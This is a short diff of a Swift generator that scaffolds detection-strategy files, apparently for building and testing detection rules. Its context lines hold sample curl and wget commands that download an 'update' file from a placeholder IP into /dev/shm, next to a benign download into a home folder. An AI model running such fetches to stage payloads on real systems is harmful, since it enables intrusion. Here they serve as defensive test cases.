@@ -19,9 +19,9 @@ public struct StrategySkeleton: Sendable {
         var files = StrategyFiles(name: name)
         let id = UUID().uuidString.lowercased()
         let title = words.joined(separator: " ")
-        files.files["strategy.md"] = Array(Self.document(title.prefix(1).uppercased() + title.dropFirst(), id).utf8)
+        files.files["strategy.md"] = Array(Self.document(title.prefix(1).uppercased() + title.dropFirst()).utf8)
         files.files["rules/example.yml"] = Array(Self.rule(id).utf8)
-        files.files["telemetry/cases.yml"] = Array(Self.cases(id).utf8)
+        files.files["telemetry/cases.yml"] = Array(Self.cases.utf8)
         let shm = ["curl", "-s", "-o", "/dev/shm/update", "http://192.0.2.10/update"]
         let home = ["curl", "-s", "-o", "/home/alice/report.pdf", "http://192.0.2.20/report.pdf"]
         let wget = ["wget", "-q", "-O", "/dev/shm/update", "http://192.0.2.10/update"]
